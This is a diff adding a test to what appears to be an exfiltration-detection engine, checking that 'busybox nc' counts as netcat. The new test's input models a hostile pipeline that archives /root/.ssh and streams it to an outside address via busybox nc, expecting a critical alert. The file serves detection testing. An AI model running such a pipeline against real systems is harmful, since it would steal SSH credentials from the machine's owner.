@@ -58,3 +58,11 @@ test('exfil.pipe-to-network: nothing for metrics posted from cat, a curl that do
   engine.process([writer(['tar', 'czf', '-', 'ckpt']), sender(['ncat', '--send-only', '127.0.0.1', '9000'])]);
   assert.deepEqual(loud(alerts), []);
 });
+
+test('exfil.pipe-to-network: busybox applets are the tools they name (busybox nc)', () => {
+  const got = run(writer(['tar', 'cf', '-', '/root/.ssh']), sender(['busybox', 'nc', '203.0.113.7', '9000']));
+  assert.deepEqual(
+    got.map(([s]) => s),
+    ['critical'],
+  );
+});
